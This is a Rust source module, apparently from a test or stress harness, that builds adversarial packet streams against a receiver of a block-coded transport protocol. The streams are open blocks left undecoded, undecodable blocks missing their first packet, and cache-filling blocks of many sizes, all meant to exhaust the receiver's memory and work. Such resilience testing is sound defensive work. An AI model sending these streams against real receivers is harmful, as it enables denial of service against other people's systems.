//! Blocks of mode BRCTP that take as much memory or work as possible.

use std::ops::RangeFrom;

use bats_code::rfc::{BatchCache, Encoder, Field, InnerCode, OuterCode};
use bats_proto::wire::short_header::PacketKind;
use bats_proto::wire::varint::Writer;

use super::{MEASURED, channel_frame, packet};
use crate::Attack;

/// Bytes of a source packet.
const CONTENT: usize = 1_200;
/// The most that the receiver may cache of a size, in bytes.
const CACHE: usize = 2 << 20;

/// A packet of a block. Its content is zeros, but for the last byte.
struct BlockPacket {
    block: u32,
    /// Source packets of the block.
    size: u16,
    batch: u32,
    coefficients: [u8; 16],
    last: u8,
}

/// Each is the only packet of its batch, which takes the most memory.
fn push(target: &mut Attack, packets: impl Iterator<Item = BlockPacket>) {
    for BlockPacket { block, size, batch, coefficients, last } in packets {
        push_packet(target, (block, size, batch), |writer| {
            writer.bytes(&coefficients)?;
            writer.bytes(&[0; CONTENT - 1])?;
            writer.u8(last)
        });
    }
}

/// A packet of a block with this number of source packets and of this batch. `content` writes coefficients and the
/// coded bytes.
fn push_packet(
    target: &mut Attack,
    (block, size, batch): (u32, u16, u32),
    content: impl FnOnce(&mut Writer<'_>) -> Option<()>,
) {
    let number = target.packets as u32;
    let datagram = packet(target, PacketKind::Repair, |writer| {
        writer.u32(number)?;
        writer.u32(block)?;
        writer.bytes(&size.to_be_bytes())?;
        writer.bytes(&(CONTENT as u16).to_be_bytes())?;
        writer.bytes(&batch.to_be_bytes()[1..])?;
        content(writer)
    });
    target.push(datagram);
}

/// Blocks full of channel frames, which the channels get although the first block never arrives: number of the channel,
/// offset and part.
pub(super) fn of_channels(
    target: &mut Attack,
    credit: u32,
    frame: impl Fn(u64) -> (u64, u64, &'static [u8]),
) {
    let (size, blocks) = blocks_within(credit.min(2 * MEASURED as u32));
    let mut next = 0;
    for block in 1..=blocks {
        // With a byte of padding.
        let mut bytes = vec![0; usize::from(size) * CONTENT - 1];
        let mut writer = Writer::new(&mut bytes);
        let mut written = 0;
        while channel_frame(frame(next), &mut writer).is_some() {
            (next, written) = (next + 1, writer.written());
        }
        bytes[written..].fill(0);
        let cache = BatchCache::new(code_of(size), CACHE);
        let mut encoder = Encoder::new(cache, &bytes, CONTENT).expect("a valid block");
        let mut packets: u32 = 0;
        // A few more than the block needs.
        while packets < u32::from(size) + 3 {
            let mut coded = vec![vec![0; encoder.coded_packet_len()]; 16];
            let mut outputs: Vec<&mut [u8]> = coded.iter_mut().map(Vec::as_mut_slice).collect();
            let batch = packets / 16;
            encoder.encode(batch, 0, &mut outputs).expect("a valid batch");
            for coded in coded {
                push_packet(target, (block, size, batch), |writer| writer.bytes(&coded));
                packets += 1;
            }
        }
    }
}

/// The size and number of blocks that a credit of so many source packets allows.
fn blocks_within(credit: u32) -> (u16, u32) {
    let size = credit.clamp(1, 512) as u16;
    (size, (credit / u32::from(size)).clamp(1, 64))
}

fn code_of(size: u16) -> OuterCode {
    let inner = InnerCode::new(16, Field::Byte).expect("a valid inner code");
    OuterCode::recommended(size.into(), inner).expect("a valid size")
}

/// Each block lacks one packet, so that none is decoded.
pub(super) fn open(target: &mut Attack, credit: u32) {
    let (size, blocks) = blocks_within(credit);
    push_open(target, 0, &vec![size; blocks as usize]);
}

/// Open blocks of these sizes, from the one with this number on.
fn push_open(target: &mut Attack, first: u32, sizes: &[u16]) {
    let most = sizes.iter().copied().max().unwrap_or(0);
    let rounds = (0..u32::from(most)).flat_map(|round| (0..).zip(sizes).map(move |of| (round, of)));
    let lacking = rounds.filter(|&(round, (_, &size))| round + 1 < u32::from(size));
    let packets = (0..).zip(lacking).map(|(number, (_, (index, &size)))| BlockPacket {
        block: first + index,
        size,
        batch: 7 * number,
        coefficients: [number as u8 | 1; 16],
        last: number as u8,
    });
    push(target, packets);
}

/// Packets of a block without its first source packet, of these batches: none is redundant, but the block cannot be
/// decoded.
fn without_first(
    block: u32,
    size: u16,
    batches: impl Iterator<Item = u32>,
) -> impl Iterator<Item = BlockPacket> {
    let code = code_of(size);
    batches.map(move |number| {
        let batch = code.batch(number);
        let mut coefficients = [0; 16];
        (coefficients[0], coefficients[1]) =
            match batch.indices().iter().position(|&index| index == 0) {
                // Times the coefficients of the first source packet, both give the same.
                Some(at) => (batch.generator(1)[at], batch.generator(0)[at]),
                None => (1, 0),
            };
        BlockPacket { block, size, batch: number, coefficients, last: number as u8 }
    })
}

/// Blocks, one after the other, without the first source packet: all have enough packets, nearly as many as a
/// block may have, and each may be the last one that is needed, but none can be decoded.
pub(super) fn undecodable(target: &mut Attack, credit: u32) {
    let (size, blocks) = blocks_within(credit);
    let packets: Vec<_> = without_first(0, size, 0..u32::from(size) * 5 / 4 + 63).collect();
    let of_block = |block| {
        packets.iter().map(move |&BlockPacket { size, batch, coefficients, last, .. }| {
            BlockPacket { block, size, batch, coefficients, last }
        })
    };
    push(target, (0..blocks).flat_map(of_block));
}

/// A block without messages, of batches that no block had before, and a few packets more than it needs. Returns what
/// its batches take in a cache, in bytes.
fn push_complete(
    target: &mut Attack,
    block: u32,
    size: u16,
    batches: &mut RangeFrom<u32>,
) -> usize {
    let code = code_of(size);
    let mut cached = 0;
    let packets: Vec<_> = batches
        .take(usize::from(size) + usize::from(size) / 16 + 8)
        .map(|number| {
            let batch = code.batch(number);
            cached += batch.bytes();
            let mut coefficients = [0; 16];
            coefficients[0] = 1;
            // The last source packet ends with one byte of padding, whose value is 1.
            let at = batch.indices().iter().position(|&index| index + 1 == u32::from(size));
            let last = at.map_or(0, |at| batch.generator(0)[at]);
            BlockPacket { block, size, batch: number, coefficients, last }
        })
        .collect();
    push(target, packets.into_iter());
    cached
}

/// Complete blocks of four sizes until the receiver has cached as many batches of each as it may, then open blocks of
/// these sizes.
pub(super) fn of_many_sizes(target: &mut Attack, credit: u32) {
    let (largest, blocks) = blocks_within(credit);
    let sizes = [0, 1, 2, 3].map(|less| largest - less);
    let (mut block, mut batches) = (0, 0..);
    for size in sizes {
        let mut cached = 0;
        while cached < CACHE && !target.is_closed {
            cached += push_complete(target, block, size, &mut batches);
            block += 1;
        }
    }
    let open: Vec<u16> = sizes.into_iter().cycle().take(blocks as usize).collect();
    push_open(target, block, &open);
}

/// An open block of each of as many sizes as the credit allows. Each gets as many batches as the receiver may cache of
/// a size, but none can be decoded.
pub(super) fn of_displaced_sizes(target: &mut Attack, credit: u32) {
    let mut left = credit;
    let sizes = (5..69).take_while(|&size| {
        let is_within = u32::from(size) <= left;
        left = left.saturating_sub(size.into());
        is_within
    });
    for (block, size) in (0..).zip(sizes) {
        push(target, without_first(block, size, 0..MEASURED as u32));
    }
}
